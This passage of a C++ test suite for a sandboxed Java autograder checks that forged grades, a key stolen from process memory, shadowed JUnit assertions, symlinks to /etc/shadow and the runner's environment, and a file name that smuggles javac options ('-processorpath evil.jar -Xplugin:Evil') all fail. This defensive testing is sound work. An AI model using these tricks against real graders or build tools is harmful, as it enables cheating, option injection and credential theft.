  void run(const std::string& command) {
    const fs::path log = dir_ / "command.log";
    if (std::system((command + " >" + log.string() + " 2>&1").c_str()) != 0) {
      throw std::runtime_error(command + " failed:\n" + util::read_file(log));
    }
  }

  fs::path javac(const std::string& name, const std::map<std::string, std::string>& sources,
                 const std::string& class_path) {
    const fs::path src = dir_ / (name + "-src"), out = dir_ / (name + "-classes");
    std::string command = (tools(false).java_home / "bin/javac").string() + " -nowarn -d " +
                          out.string() + (class_path.empty() ? "" : " -cp " + class_path);
    for (const auto& [file, text] : sources) {
      fs::create_directories((src / file).parent_path());
      util::write_file(src / file, text);
      command += " " + (src / file).string();
    }
    run(command);
    return out;
  }

  testing::TempDir dir_;
  std::string forged4_, forged5_, evil_jar_, native_;
};

Artifacts& artifacts() {
  static Artifacts instance;
  return instance;
}

// ---------------------------------------------------------------------------------------------
// Submissions.

struct JavaClass {
  std::string name;  // e.g. "StealKey": src/main/java/edu/uoc/<name>.java
  const char* source;
};

// The wrong Calculator, with `static_hook` in its static initialiser and `method_hook` at the
// start of every method, plus Forge.java and the attack's own classes.
testing::ZipBuilder wrong_submission(const std::string& static_hook = "",
                                     const std::vector<JavaClass>& classes = {},
                                     const std::string& method_hook = "") {
  std::string calculator = replace_all(kWrongCalculator, "/*STATIC*/", static_hook);
  calculator = replace_all(calculator, "/*METHOD*/", method_hook);
  testing::ZipBuilder zip;
  zip.file("src/main/java/edu/uoc/Calculator.java", calculator)
      .file("src/main/java/edu/uoc/Forge.java", kForge);
  for (const auto& c : classes) zip.file("src/main/java/edu/uoc/" + c.name + ".java", c.source);
  return zip;
}

// ---------------------------------------------------------------------------------------------
// The fixture: a PIT per build, grading, the baseline, and the checks every attack must pass.

// `plan`: a Maven or Gradle PIT graded with its build plan (no build tool per submission).
struct Combo {
  std::string level, build;
  bool plan = false;
};

void PrintTo(const Combo& c, std::ostream* os) {
  *os << c.level << " " << c.build << (c.plan ? " plan" : "");
}

std::string combo_name(const ::testing::TestParamInfo<Combo>& info) {
  return info.param.level + "_" + info.param.build + (info.param.plan ? "_plan" : "");
}

std::vector<Combo> combos(std::initializer_list<const char*> builds, bool plan = false) {
  std::vector<Combo> out;
  for (const char* level : {"full", "basic"}) {
    for (const char* build : builds) out.push_back({level, build, plan});
  }
  return out;
}

enum class Variant {
  Standard,         // the example PIT as it is
  NoExpectedTests,  // without expected_tests (and without weights, which name a test too)
};

struct Graded {
  grading::Verdict verdict;
  std::string log, feedback;
};

std::vector<std::string> markers_in(const std::string& text) {
  std::vector<std::string> found;
  std::set<std::string> seen;
  for (auto at = text.find("ATTACK-"); at != std::string::npos; at = text.find("ATTACK-", at + 1)) {
    if (at + 7 >= text.size() || !std::isupper(static_cast<unsigned char>(text[at + 7]))) continue;
    auto end = text.find_first_of("\n\"\\", at);
    if (end == std::string::npos) end = text.size();
    const std::string marker = text.substr(at, std::min<std::size_t>(end - at, 200));
    if (seen.insert(marker).second && found.size() < 40) found.push_back(marker);
  }
  return found;
}

std::string joined(const std::vector<std::string>& lines) {
  std::string out;
  for (const auto& line : lines) out += "  " + line + "\n";
  return out;
}

// Where `needle` first occurs in `text` (never the text around it: that could be the runner's
// environment).
std::string where(const std::string& text, const std::string& needle) {
  const auto at = text.find(needle);
  if (at == std::string::npos) return "";
  const auto line = std::count(text.begin(), text.begin() + static_cast<std::ptrdiff_t>(at), '\n');
  return "at byte " + std::to_string(at) + " (line " + std::to_string(line + 1) + ")";
}

// `text` with every line that may hold what an attack leaked (the runner's environment, a
// canary, /etc/shadow) withheld: such lines never go into the test's output.
std::string withheld(const std::string& text) {
  static const std::regex shadow_like("^[a-z_][a-z0-9_-]*:[^:]*:[0-9]*:.*");
  std::string out;
  for (const auto& line : util::split(text, '\n')) {
    const bool secret =
        line.find('\0') != std::string::npos || line.find(kEnvCanary) != std::string::npos ||
        line.find(hidden_canary()) != std::string::npos || std::regex_match(line, shadow_like);
    out += (secret ? std::string("<line withheld>") : line) + "\n";
  }
  return out;
}

// The verdict in a few lines, and the start of the log, for a failure message.
std::string summary(const Graded& g) {
  const auto& v = g.verdict;
  std::string out = "status " + grading::to_string(v.status) + ", score " +
                    std::to_string(v.score.score) + " / " + std::to_string(v.score.max_score) +
                    ", output: " + v.output.substr(0, 2000) + "\n";
  for (const auto& t : v.score.tests) {
    out += "  " + t.name + " " + report::to_string(t.status) + " " + std::to_string(t.score) +
           "  " + t.output.substr(0, 120) + "\n";
  }
  return out + "--- log.txt (head)\n" + withheld(g.log.substr(0, 6000));
}

// What the attack reported as failing ("[attack] <step>: <exception>"): the defences that held.
void print_defences(const Graded& g) {
  std::set<std::string> seen;
  for (const auto& line : util::split(withheld(g.log), '\n')) {
    const auto at = line.find("[attack]");
    if (at == std::string::npos || seen.size() >= 15) continue;
    if (seen.insert(line.substr(at, 220)).second)
      std::cout << "[ defence  ] " << line.substr(at, 220) << "\n";
  }
  std::cout << "[ verdict  ] " << grading::to_string(g.verdict.status) << " "
            << g.verdict.score.score << " / " << g.verdict.score.max_score << "\n";
}

class ForgeryTest : public ::testing::TestWithParam<Combo> {
 protected:
  void SetUp() override {
    const auto& c = GetParam();
    RUNNER_SKIP_UNLESS_SANDBOX(c.level);
  }

  // Grades `submission` against a fresh copy of this build's example PIT, whose test source
  // carries the hidden canary.
  Graded grade(const testing::ZipBuilder& submission, Variant variant = Variant::Standard) {
    const auto& c = GetParam();
    testing::TempDir tmp;
    const fs::path pit_dir = tmp / "pits/calculator";
    fs::create_directories(pit_dir);
    fs::copy(testing::source_dir() / "examples/pits" /
                 (c.build == "gradle" ? "calculator-gradle" : "calculator"),
             pit_dir, fs::copy_options::recursive);
    std::string yaml = util::read_file(pit_dir / "pit.yaml");
    yaml = std::regex_replace(yaml, std::regex("(^|\n)build:[^\n]*"), "$1build: " + c.build);
    yaml = std::regex_replace(yaml, std::regex("(^|\n)id:[^\n]*"), "$1id: calculator");
    if (variant == Variant::NoExpectedTests) {
      yaml = std::regex_replace(yaml, std::regex("(^|\n)expected_tests:[^\n]*"), "$1");
      yaml = std::regex_replace(yaml, std::regex("(^|\n)weights:[^\n]*(\n[ \t]+[^\n]*)*"), "$1");
    }
    util::write_file(pit_dir / "pit.yaml", yaml);
    const fs::path test_source = pit_dir / "overlay/src/test/java/edu/uoc/CalculatorTest.java";
    util::write_file(test_source, "// " + hidden_canary() + "\n" + util::read_file(test_source));
    const auto pit = pit::load_pit(pit_dir, {});

    const fs::path zip = tmp / "submission.zip";
    submission.write(zip);
    auto launcher =
        select_launcher(c.level == "full" ? sandbox::Level::Full : sandbox::Level::Basic, kSlot,
                        uids::kDefaultBase, testing::data_dirs().read_only())
            .launcher;
    fs::create_directories(tmp / "work");
    grading::GradeContext context{*launcher, tools(c.plan), tmp / "work", {},
                                  200000,    nullptr,       nullptr};
    Graded graded;
    graded.verdict = grading::grade({zip, pit, "s-forgery", tmp / "out"}, context);
    graded.log = util::read_file(tmp / "out/log.txt");
    graded.feedback = util::read_file(tmp / "out/feedback.json");
    EXPECT_TRUE(fs::is_empty(tmp / "work")) << "job folder left behind";
    EXPECT_TRUE(uids::processes_of(uids::job_uid(kSlot)).empty()) << "job processes left behind";
    return graded;
  }

  // The score of the plain wrong Calculator with this PIT, build and level.
  double baseline(Variant variant) {
    static std::map<std::string, double> cache;
    const auto& c = GetParam();
    const std::string key = c.level + "/" + c.build + (c.plan ? "/plan/" : "/tool/") +
                            (variant == Variant::Standard ? "standard" : "no-expected");
    if (auto it = cache.find(key); it != cache.end()) return it->second;
    const Graded honest = grade(wrong_submission(), variant);
    EXPECT_EQ(honest.verdict.status, Status::Completed)
        << "the baseline (the plain wrong Calculator) did not grade:\n"
        << summary(honest);
    cache[key] = honest.verdict.score.score;
    return honest.verdict.score.score;
  }

  // What every attack must leave true.
  void expect_no_gain(const Graded& g, Variant variant = Variant::Standard) {
    const double honest = baseline(variant);
    EXPECT_NE(g.verdict.status, Status::Error) << summary(g);
    EXPECT_LE(g.verdict.score.score, honest + 1e-9)
        << "the attack earned points (baseline " << honest << ")\n"
        << summary(g);
    for (const auto& [name, text] : {std::pair<const char*, const std::string*>{"log.txt", &g.log},
                                     {"feedback.json", &g.feedback}}) {
      EXPECT_EQ(text->find(kEnvCanary), std::string::npos)
          << "the runner's environment reached " << name << " " << where(*text, kEnvCanary);
      EXPECT_EQ(text->find(hidden_canary()), std::string::npos)
          << "the hidden test source reached " << name << " " << where(*text, hidden_canary());
      const auto markers = markers_in(*text);
      EXPECT_TRUE(markers.empty()) << "attack steps that worked, in " << name << ":\n"
                                   << joined(markers);
    }
    print_defences(g);
  }
};

// Builds whose tests the attack applies to; one fixture each, so no case is ever skipped for
// being inapplicable.
class ForgeryJavac : public ForgeryTest {};
class ForgeryMaven : public ForgeryTest {};
class ForgeryMavenGradle : public ForgeryTest {};
class Forgery : public ForgeryTest {};

// ---------------------------------------------------------------------------------------------
// 1. The HMAC key, from the JVM's own memory.

TEST_P(ForgeryJavac, HmacKeyReadFromProcSelfMemSignsNothing) {
  expect_no_gain(grade(wrong_submission("StealKey.run();", {{"StealKey", kStealKey}})));
}

// 2. A source file whose name breaks out of the quotes of javac's argument file, to add
// `-processorpath evil.jar -Xplugin:Evil` (a plugin that replaces the teacher's compiled tests).

TEST_P(ForgeryJavac, ArgfileQuoteBreakoutInASourceFileNameAddsNoJavacOption) {
  auto zip = wrong_submission();
  zip.file("src/main/java/edu/uoc/A.java", "package edu.uoc;\n\nclass A {}\n")
      .file("src/main/java/edu/uoc/A.java\" -processorpath evil.jar -Xplugin:Evil \"B.java",
            "package edu.uoc;\n\nclass Quoted {}\n")
      .file("B.java", "class B {}\n")
      .file("evil.jar", artifacts().evil_plugin_jar());
  const Graded g = grade(zip);
  // INVALID_SUBMISSION (the name refused) or a grade like the baseline's: both hold the line.
  expect_no_gain(g);
}

// 3. JUnit's assertions shadowed by no-op classes of the same name in src/main/java.

TEST_P(ForgeryMavenGradle, ShadowedJUnitAssertionsDoNotPassTheTests) {
  auto zip = wrong_submission();
  if (GetParam().build == "maven") {
    zip.file("src/main/java/org/junit/jupiter/api/Assertions.java", kShadowAssertions)
        .file("src/main/java/org/junit/jupiter/api/function/Executable.java", kShadowExecutable);
  } else {
    zip.file("src/main/java/org/junit/Assert.java", kShadowAssert);
  }
  expect_no_gain(grade(zip));
}

// 4. Passing Surefire reports written from the static initialiser (and into the job's reports
// folder when it can be found).

TEST_P(ForgeryMaven, ReportsWrittenByStudentCodeAreNotBelieved) {
  expect_no_gain(grade(wrong_submission("Forge.plantReports(\"static initialiser\", true);")));
}

// 5. The JVM ended before any failing test reports, with a PIT that does not say how many tests
// it has: every test of the PIT's sources still counts, as failed.

void expect_every_test_failed(const Graded& g) {
  EXPECT_EQ(g.verdict.score.tests.size(), 6u) << summary(g);
  EXPECT_EQ(g.verdict.score.passed, 0) << summary(g);
  EXPECT_EQ(g.verdict.score.failed, 6) << summary(g);
}

TEST_P(Forgery, HaltInTheStaticInitialiserLeavesEveryTestFailed) {
  const Graded g =
      grade(wrong_submission("Runtime.getRuntime().halt(0);"), Variant::NoExpectedTests);
  expect_no_gain(g, Variant::NoExpectedTests);
  expect_every_test_failed(g);
}

TEST_P(Forgery, SystemExitInTheFirstCallLeavesEveryTestFailed) {
  const Graded g = grade(wrong_submission("", {}, "System.exit(0);"), Variant::NoExpectedTests);
  expect_no_gain(g, Variant::NoExpectedTests);
  expect_every_test_failed(g);
}

// 6. Symlinks from the reports folder to the runner's environment and to /etc/shadow, planted by
// the test JVM for the runner to read.

TEST_P(ForgeryMaven, DumpstreamSymlinksLeakNothingOfTheRunner) {
  const Graded g =
      grade(wrong_submission("PlantSymlinks.run();", {{"PlantSymlinks", kPlantSymlinks}}));
  expect_no_gain(g);
  std::ifstream shadow("/etc/shadow");
  std::string first_entry;
  std::getline(shadow, first_entry);
  if (!first_entry.empty()) {
    EXPECT_EQ(g.log.find(first_entry), std::string::npos) << "/etc/shadow reached log.txt";
    EXPECT_EQ(g.feedback.find(first_entry), std::string::npos) << "/etc/shadow reached feedback";
  }
}

// 7. Every other way out of the test JVM.

TEST_P(Forgery, ForgedLinesThroughEveryProcSelfFdAreRejected) {
  expect_no_gain(grade(wrong_submission("EveryFd.run();", {{"EveryFd", kEveryFd}})));
}

TEST_P(Forgery, ReflectionIntoTheHostTheEngineAndUnsafeIsDenied) {
  expect_no_gain(grade(wrong_submission("Reflection.run();", {{"Reflection", kReflection}})));
}

TEST_P(Forgery, NativeLibraryShippedAsAResourceDoesNotLoad) {
  auto zip = wrong_submission("LoadNative.run();", {{"LoadNative", kLoadNative}});
  zip.file("src/main/resources/libevil.so", artifacts().native_library());
  expect_no_gain(grade(zip));
}

TEST_P(Forgery, AnnotationProcessorAndJavacPluginNeverRun) {
  const bool junit4 = GetParam().build == "gradle";
  auto zip = wrong_submission();
  zip.file("src/main/java/edu/uoc/evil/EvilProcessor.java",
           replace_all(kEvilProcessor, "/*FORGED*/", base64(artifacts().forged_test_class(junit4))))
      .file("src/main/resources/META-INF/services/javax.annotation.processing.Processor",
            "edu.uoc.evil.EvilProcessor\n")
      .file("src/main/resources/META-INF/services/com.sun.source.util.Plugin",
            "edu.uoc.evil.EvilProcessor\n");
  expect_no_gain(grade(zip));
}

TEST_P(Forgery, DaemonThreadAndShutdownHookForgeNothingAfterTheTests) {
  expect_no_gain(grade(wrong_submission("Lingering.run();", {{"Lingering", kLingering}})));
}

TEST_P(Forgery, SystemSetOutAndSetErrForgeNothing) {
  expect_no_gain(grade(wrong_submission("SwapStreams.run();", {{"SwapStreams", kSwapStreams}})));
}

TEST_P(Forgery, HiddenTestSourcesCannotBeRead) {
  expect_no_gain(grade(wrong_submission("ReadTests.run();", {{"ReadTests", kReadTests}})));
}

TEST_P(Forgery, ShellFromProcessBuilderLeaksNoEnvironment) {
  expect_no_gain(grade(wrong_submission("Shell.run();", {{"Shell", kShell}})));
}

// 8. Not an attack: a correct Calculator that prints 50 MiB still gets full marks.

TEST_P(Forgery, CorrectCalculatorPrinting50MiBGetsFullMarks) {
  testing::ZipBuilder zip;
  zip.file("src/main/java/edu/uoc/Calculator.java", kFloodingCorrectCalculator);
  const Graded g = grade(zip);
  EXPECT_EQ(g.verdict.status, Status::Completed) << summary(g);
  EXPECT_EQ(g.verdict.score.passed, 6) << summary(g);
  EXPECT_GT(g.verdict.score.max_score, 0) << summary(g);
  EXPECT_DOUBLE_EQ(g.verdict.score.score, g.verdict.score.max_score) << summary(g);
  EXPECT_EQ(g.log.find(kEnvCanary), std::string::npos);
  EXPECT_EQ(g.log.find(hidden_canary()), std::string::npos);
}

INSTANTIATE_TEST_SUITE_P(Levels, ForgeryJavac, ::testing::ValuesIn(combos({"javac"})), combo_name);
INSTANTIATE_TEST_SUITE_P(Levels, ForgeryMaven, ::testing::ValuesIn(combos({"maven"})), combo_name);
INSTANTIATE_TEST_SUITE_P(Levels, ForgeryMavenGradle,
                         ::testing::ValuesIn(combos({"maven", "gradle"})), combo_name);
INSTANTIATE_TEST_SUITE_P(Levels, Forgery, ::testing::ValuesIn(combos({"javac", "maven", "gradle"})),
                         combo_name);
// The same attacks on Maven and Gradle PITs graded with their build plans.
INSTANTIATE_TEST_SUITE_P(Plans, ForgeryMaven, ::testing::ValuesIn(combos({"maven"}, true)),
                         combo_name);
INSTANTIATE_TEST_SUITE_P(Plans, ForgeryMavenGradle,
                         ::testing::ValuesIn(combos({"maven", "gradle"}, true)), combo_name);
INSTANTIATE_TEST_SUITE_P(Plans, Forgery, ::testing::ValuesIn(combos({"maven", "gradle"}, true)),
                         combo_name);

}  // namespace
}  // namespace runner::sandbox
